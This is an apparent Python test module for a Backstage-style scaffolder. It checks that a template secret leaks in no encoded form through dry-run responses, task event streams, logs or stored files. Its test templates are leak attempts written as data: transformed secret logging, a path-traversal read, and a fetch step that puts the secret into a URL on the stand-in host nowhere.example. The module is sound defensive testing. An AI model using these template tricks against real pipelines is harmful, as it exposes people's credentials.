"""Secrets of people who run templates: no form of them leaves (cases D10, E11, G1, G2)."""

from __future__ import annotations

import base64
import html
import json
import re
from collections.abc import Iterator
from urllib.parse import quote

import pytest

from tests.attacks.conftest import StartPortal
from tests.attacks.running import Json
from tests.attacks.running import RunningPortal

#: Each starts a portal of its own, as a process.
pytestmark = pytest.mark.slow

_PLAIN = "c4n4ry/Zebra"
#: Quotes, a backslash, blanks, markup and lines: whatever changes when it is written elsewhere.
_HARD = "c4n4ry \"q\" \\b <i>&'Zebra'</i>\nsecond-line-of-c4n4ry\t한글-Zebra"
_STEPS: list[tuple[str, str, dict[str, Json]]] = [
    ("plain", "debug:log", {"message": "a ${{ secrets.t }} b"}),
    ("upper", "debug:log", {"message": 'say "${{ secrets.t | upper }}"'}),
    ("reversed", "debug:log", {"message": "x ${{ secrets.t | reverse }} y"}),
    ("sliced", "debug:log", {"message": "${{ secrets.t.slice(2, 9) }}/../${{ secrets.t[0:6] }}"}),
    ("joined", "debug:log", {"message": "${{ secrets.t.split('') | join('-') }}"}),
    ("replaced", "debug:log", {"message": "<${{ secrets.t | replace('4', '5') }}>"}),
    ("encoded", "debug:log", {"message": "${{ secrets.t | urlencode }} ${{ secrets.t | escape }}"}),
    ("dumped", "debug:log", {"message": "${{ {'a': [secrets.t]} | dump | dump }}"}),
    ("looped", "debug:log", {"message": "{% for c in secrets.t %}${{ c }}\n{% endfor %}"}),
    ("path", "fs:readdir", {"paths": ["no/./${{ secrets.t | upper }}/../${{ secrets.t }}"]}),
    ("wrong", "fs:delete", {"files": "${{ secrets.t | upper }}"}),
    ("kept", "fetch:plain", {"url": "https://nowhere.example/${{ secrets.t }}"}),
]

_REFUSED = ("path", "wrong", "kept")


def _forms(secret: str) -> Iterator[str]:
    """Yield what must not be seen, in lower case: the secret in each form, and parts of it."""
    parts = [part for part in re.split(r"[/\n\t]+", secret) if len(part) > 3]
    for text in (secret, secret[::-1], *parts):
        yield text
        yield from (json.dumps(text)[1:-1], json.dumps(text, ensure_ascii=False)[1:-1])
        yield from (quote(text, ""), quote(text), html.escape(text), repr(text)[1:-1])
    yield base64.b64encode(secret.encode()).decode().rstrip("=")
    yield from (secret[2:9], secret.replace("4", "5"), "-".join(secret[:8]), "\n".join(secret[:8]))
    yield json.dumps("\n".join(secret[:8]))[1:-1]


def _template(name: str, step: tuple[str, str, dict[str, Json]]) -> dict[str, Json]:
    steps: list[Json] = [{"id": "s", "name": "s", "action": step[1], "input": step[2]}]
    return {
        "apiVersion": "scaffolder.backstage.io/v1beta3",
        "kind": "Template",
        "metadata": {"name": name},
        "spec": {"type": "service", "owner": "guests", "parameters": {}, "steps": steps},
    }


def _each() -> dict[str, Json]:
    template = _template("each", ("each", "debug:log", {"message": "${{ each.value }}"}))
    template["spec"]["steps"][0]["each"] = "${{ secrets.t.split('') }}"
    return template


_TEMPLATES = [*(_template(step[0], step) for step in _STEPS), _each()]
_NAMES = [template["metadata"]["name"] for template in _TEMPLATES]


@pytest.fixture(scope="module")
def portal(start_portal: StartPortal) -> RunningPortal:
    """Return a portal with all templates."""
    return start_portal({"catalog-info.yaml": "\n---\n".join(map(json.dumps, _TEMPLATES))})


def _leaks(text: str, secret: str) -> list[str]:
    return [form for form in _forms(secret) if form.lower() in text.lower()]


@pytest.mark.parametrize("secret", [_PLAIN, _HARD])
@pytest.mark.parametrize("template", _TEMPLATES, ids=_NAMES)
def test_a_dry_run_tells_no_form_of_a_secret(
    portal: RunningPortal, template: dict[str, Json], secret: str
) -> None:
    output = {"text": [{"title": "t", "content": "${{ steps.s.output | dump | upper }}"}]}
    body = {
        "template": {**template, "spec": {**template["spec"], "output": output}},
        "values": {},
        "secrets": {"t": secret},
        "directoryContents": [],
    }
    answer = portal.ask("POST", "/api/scaffolder/v2/dry-run", body)
    assert answer.status == 200 or template["metadata"]["name"] in _REFUSED, answer.body
    told = {name: part for name, part in answer.json.items() if name != "steps"}
    assert _leaks(json.dumps(told), secret) == []
    assert _leaks(json.dumps(told, ensure_ascii=False), secret) == []
    messages = [entry["body"]["message"] for entry in told.get("log", [])]
    assert _leaks("\n".join(messages), secret) == []
    singles = {message[-1:] for message in messages if len(message) <= 2}
    assert not singles & set(secret)


def _ended(portal: RunningPortal, task: str) -> str:
    stream = portal.ask("GET", f"/api/scaffolder/v2/tasks/{task}/eventstream")
    assert b"event: completion" in stream.body
    return stream.body.decode()


def test_a_task_tells_no_form_of_a_secret_anywhere(portal: RunningPortal) -> None:
    told = []
    for name in _NAMES:
        body = {
            "templateRef": f"template:default/{name}",
            "values": {},
            "secrets": {"t": _HARD},
        }
        task = portal.ask("POST", "/api/scaffolder/v2/tasks", body).json["id"]
        told.append(_ended(portal, task))
        for path in ("", "/events"):
            answer = portal.ask("GET", f"/api/scaffolder/v2/tasks/{task}{path}")
            told.append(answer.body.decode())
    written = b"".join(
        path.read_bytes() for path in (portal.folder / "data").rglob("*") if path.is_file()
    )
    everything = "\n".join([*told, portal.log, written.decode("utf-8", "replace")])
    assert _leaks(everything, _HARD) == []
